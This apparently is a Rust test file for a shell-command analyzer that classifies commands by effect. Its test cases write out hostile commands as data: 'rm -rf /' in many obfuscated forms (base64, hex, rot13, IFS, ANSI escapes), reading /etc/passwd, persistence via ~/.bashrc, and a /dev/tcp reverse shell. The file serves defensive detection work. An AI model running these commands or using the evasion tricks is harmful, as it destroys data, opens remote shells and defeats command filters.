//! Commands and their effects.

mod commands;
mod found;
mod limits;
mod properties;

use rstest::rstest;

use crate::{Analysis, analyze};

/// Each effect as `kind object target`, with its flags.
fn effects(analysis: &Analysis) -> Vec<String> {
    analysis
        .effects
        .iter()
        .map(|effect| {
            let mut text = format!("{:?} {:?}", effect.kind, effect.object).to_lowercase();
            if let Some(target) = &effect.target {
                text.push(' ');
                text.push_str(target);
            }
            for (set, flag) in [(effect.recursive, " -r"), (effect.force, " -f"), (effect.dynamic, " ?")] {
                if set {
                    text.push_str(flag);
                }
            }
            text
        })
        .collect()
}

#[rstest]
#[case::plain("rm -rf /", &["delete file / -r -f"])]
#[case::quotes("r''m -r\"f\" '/'", &["delete file / -r -f"])]
#[case::escape("\\rm -rf /", &["delete file / -r -f"])]
#[case::ansi("$'\\x72m' -rf /", &["delete file / -r -f"])]
#[case::variable("x=rm; $x -rf /", &["delete file / -r -f"])]
#[case::field_separator("rm${IFS}-rf${IFS}/", &["delete file / -r -f"])]
#[case::empty_parameter("r$@m -rf /", &["delete file / -r -f"])]
#[case::braces("rm -rf /{a,b}", &["delete file /a -r -f", "delete file /b -r -f"])]
#[case::brace_command("{rm,-rf,/}", &["delete file / -r -f"])]
#[case::home("rm -rf $HOME/x", &["delete file ~/x -r -f"])]
#[case::path("cat /etc/../etc//passwd", &["read file /etc/passwd"])]
#[case::folder("cd / && rm -rf usr", &["delete file /usr -r -f"])]
#[case::sudo("sudo -u bob rm -f x", &["privilege account bob", "delete file x -f"])]
#[case::nested_wrappers("nohup nice -n 5 timeout 5 env A=b rm x", &["delete file x"])]
#[case::shell("bash -c 'rm x'", &["delete file x"])]
#[case::shell_flags("sh -xec 'rm x'", &["delete file x"])]
#[case::eval("eval \"rm x\"", &["delete file x"])]
#[case::heredoc("bash <<EOF\nrm x\nEOF", &["execute code rm x\n", "delete file x"])]
#[case::herestring("sh <<< 'rm x'", &["execute code rm x\n", "delete file x"])]
#[case::pipe("echo rm x | sh", &["execute code rm x\n", "delete file x"])]
#[case::base64("echo cm0geA== | base64 -d | sh", &["execute code rm x", "delete file x"])]
#[case::hex("echo 726d2078 | xxd -r -p | sh", &["execute code rm x", "delete file x"])]
#[case::reverse("echo 'x mr' | rev | sh", &["execute code rm x\n", "delete file x"])]
#[case::rot13("echo 'ez k' | tr a-z n-za-m | sh", &["execute code rm x\n", "delete file x"])]
#[case::find_exec("find /a -name '*.b' -exec rm {} \\;", &["search file /a/**/*.b", "delete file /a/**/*.b"])]
#[case::find_delete("find /a -delete", &["search file /a/**", "delete file /a/** -r -f"])]
#[case::xargs("echo a b | xargs rm -f", &["delete file a -f", "delete file b -f"])]
#[case::xargs_find("find /a -name k | xargs cat", &["search file /a/**/k", "read file /a/**/k"])]
#[case::substitution("cat $(rm x)", &["delete file x"])]
#[case::function("f() { rm \"$1\"; }; f /x", &["delete file /x"])]
#[case::uncalled("f() { rm \"$1\"; }", &["delete file $1 ?"])]
#[case::written_then_run("echo 'rm x' > a.sh; sh a.sh", &["write file a.sh", "execute file a.sh", "delete file x"])]
#[case::python("python3 -c 'import os; os.system(\"rm x\")'", &["execute code import os; os.system(\"rm x\")", "delete file x"])]
#[case::redirect("echo a > /etc/x", &["write file /etc/x"])]
#[case::persist("echo a >> ~/.bashrc", &["persist file ~/.bashrc", "append file ~/.bashrc"])]
#[case::reverse_shell("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", &["network host 1.2.3.4:80", "send host 1.2.3.4:80", "execute code ?"])]
#[case::either("if a; then x=echo; else x=rm; fi; $x -f /", &["delete file / -f"])]
fn what_commands_do(#[case] text: &str, #[case] expected: &[&str]) {
    assert_eq!(effects(&analyze(text)), expected);
}
